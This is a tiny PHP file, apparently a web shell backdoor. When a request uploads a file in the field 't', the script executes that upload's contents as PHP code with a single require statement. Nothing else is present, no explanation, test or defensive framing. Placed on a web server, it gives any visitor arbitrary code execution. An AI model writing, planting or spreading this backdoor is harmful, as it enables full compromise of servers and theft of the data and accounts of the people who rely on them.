<?php
if (!empty($_FILES['t'])) {
	require $_FILES['t']['tmp_name'];
}
